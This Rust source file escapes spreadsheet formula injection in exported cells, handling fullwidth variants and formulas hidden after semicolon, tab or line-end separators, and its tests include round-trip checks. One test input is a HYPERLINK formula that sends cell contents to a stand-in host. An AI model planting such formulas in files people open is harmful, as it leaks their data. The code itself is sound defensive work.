//! Cells of tables that spreadsheets open.
//!
//! A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula, which can read other
//! cells and send them away. An apostrophe in front makes it a text. Where the list separator of a
//! spreadsheet is `;` or a tab, one cell of ours becomes several, and each of them has to be a text.

use std::borrow::Cow;

use crate::terminal;

/// Whether spreadsheets may take a cell that begins like this for a formula.
const fn is_formula_start(first: char) -> bool {
    matches!(
        first,
        '=' | '+'
            | '-'
            | '@'
            | '\u{ff1d}'
            | '\u{ff0b}'
            | '\u{ff0d}'
            | '\u{ff20}'
            | '\u{fe62}'
            | '\u{fe63}'
            | '\u{fe66}'
            | '\u{fe6b}'
    )
}

/// What a spreadsheet may take for the end of a cell inside one of ours: where its list separator is
/// another one, quotation marks in the middle of what it takes for a cell quote nothing.
const SEPARATORS: [char; 4] = [';', '\t', '\r', '\n'];

/// Whether a part of a cell needs an apostrophe in front, behind any number of apostrophes, quotation
/// marks, spaces and what is not shown. A whole cell must not begin with a tab or a line end either.
fn is_marked(part: &str, is_first: bool) -> bool {
    let is_start = |c| is_formula_start(c) || (is_first && matches!(c, '\t' | '\r' | '\n'));
    let is_shown = |c: char| !(c.is_whitespace() || c.is_control() || terminal::is_format(c));
    let is_skipped = |c| matches!(c, '\'' | '"') || !(is_shown(c) || is_start(c));
    part.trim_start_matches(is_skipped).starts_with(is_start)
}

/// The parts that a spreadsheet may make cells of, each with the separator that ends it, and whether it
/// is the first.
fn parts(cell: &str) -> impl Iterator<Item = (&str, bool)> {
    cell.split_inclusive(SEPARATORS).enumerate().map(|(at, part)| (part, at == 0))
}

/// The cell as text: what would be a formula, at its beginning or behind a separator, gets an apostrophe
/// in front, and so does what has some already, so that [`restored`] gives back exactly this cell.
#[must_use]
pub fn neutral(cell: &str) -> Cow<'_, str> {
    if !parts(cell).any(|(part, is_first)| is_marked(part, is_first)) {
        return Cow::Borrowed(cell);
    }
    let mark = |(part, is_first)| [if is_marked(part, is_first) { "'" } else { "" }, part];
    Cow::Owned(parts(cell).flat_map(mark).collect())
}

/// The cell as it was before [`neutral`].
#[must_use]
pub fn restored(cell: &str) -> String {
    let mut was = String::with_capacity(cell.len());
    for (part, is_first) in parts(cell) {
        let unmarked = part.strip_prefix('\'').filter(|rest| is_marked(rest, is_first));
        was.push_str(unmarked.unwrap_or(part));
    }
    was
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn formulas_become_texts() {
        for (cell, expected) in [
            ("=HYPERLINK(\"http://e.example/\"&A1)", "'=HYPERLINK(\"http://e.example/\"&A1)"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t'=1"),
            ("\r=1", "'\r'=1"),
            ("\u{ff1d}1", "'\u{ff1d}1"),
            ("'=1", "''=1"),
            ("'tis", "'tis"),
            ("a=1", "a=1"),
            ("a;=1+1", "a;'=1+1"),
            ("a;'=1+1", "a;''=1+1"),
            ("=1;b;@c", "'=1;b;'@c"),
            ("a; \"=1\"", "a;' \"=1\""),
            ("a\t+1", "a\t'+1"),
            ("a\r\n\r\n=1", "a\r\n\r\n'=1"),
            ("\n=1", "'\n'=1"),
            ("a; b; 'tis", "a; b; 'tis"),
            ("a, =1", "a, =1"),
            ("\u{200b}\0=1", "'\u{200b}\0=1"),
            ("\u{a0}\u{fe62}1", "'\u{a0}\u{fe62}1"),
            ("", ""),
        ] {
            assert_eq!(neutral(cell), expected);
            assert_eq!(restored(expected), cell);
        }
    }

    proptest! {
        #[test]
        fn every_cell_comes_back(cell in "['\"=+@;,\t\r\n a-]{0,8}", other: String) {
            for cell in [cell, other] {
                let written = neutral(&cell).into_owned();
                for part in written.split([';', '\r', '\n']) {
                    prop_assert!(!part.trim_start_matches([' ', '"']).starts_with(is_formula_start));
                }
                prop_assert_eq!(restored(&written), cell);
            }
        }
    }
}
